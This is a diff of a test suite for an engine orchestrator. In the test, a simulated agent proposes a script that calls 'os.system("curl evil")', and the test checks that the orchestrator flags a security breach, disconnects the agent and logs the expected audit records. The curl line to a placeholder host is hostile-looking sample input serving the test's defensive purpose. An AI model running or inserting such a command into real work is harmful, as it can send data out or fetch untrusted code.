@@ -291,7 +291,8 @@ describe('Human Intervention', () => {
     const stuck = await h.sim({ name: 'godot', roles: ['target'], scenario: 'silent', clock });
     await target.waitFor('resync');
     agent.proposeScript('import os\nos.system("curl evil")\n', ['unity'], ['obj_1']);
-    await eventually(() => state().orchestrator.panic?.failure === 'Security Breach', 'Security Breach');
+    await eventually(() => state().engines.find((e) => e.name === 'claude')?.panic?.failure === 'Security Breach', 'Security Breach');
+    await agent.until(() => agent.closed !== null, 'the breached agent is cut off');
     source.generation += 1;
     source.send('heartbeat', { seq: 1 });
     await source.until(() => source.closed !== null, 'drifted source closed');
@@ -299,8 +300,7 @@ describe('Human Intervention', () => {
     await target.until(() => target.closed !== null, 'malformed target closed');
     await eventually(() => state().engines.filter((e) => e.state === 'PANIC').length === 3, 'three engines in PANIC');
     await eventually(() => !h.orch.brain.sessions.has('unity') && !h.orch.brain.sessions.has('blender'), 'closed sessions gone');
-    // Deadlock: godot has been silent for more than 10 s. So has claude on this clock (still connected,
-    // it heartbeats on real time): two breaker records.
+    // Deadlock: godot has been silent for more than 10 s (claude's session was closed by its breach).
     clock.advance(10_001);
     await stuck.waitFor('error', (m) => m.body.code === 'HEARTBEAT_TIMEOUT');
     expect(state().engines.find((e) => e.name === 'godot')).toMatchObject({ state: 'DEGRADED', breaker: 'open' });
@@ -309,13 +309,7 @@ describe('Human Intervention', () => {
     const orch = await h.restart();
     const terminal = orch.control.state(viewer).audit.filter((a) => a.terminal);
     const rows = terminal.map((a) => (a.kind === 'panic' ? a.summary.split(':')[0] : `${a.kind} ${a.actor}: ${a.reason!.split(':')[0]}`));
-    expect(rows.sort()).toEqual([
-      'Contract Violation',
-      'Generation Drift',
-      'Security Breach',
-      'breaker_open claude: Deadlock',
-      'breaker_open godot: Deadlock',
-    ]);
+    expect(rows.sort()).toEqual(['Contract Violation', 'Generation Drift', 'Security Breach', 'breaker_open godot: Deadlock']);
     expect(orch.control.state(viewer).orchestrator.state).toBe('PANIC');
     expect(
       orch.control
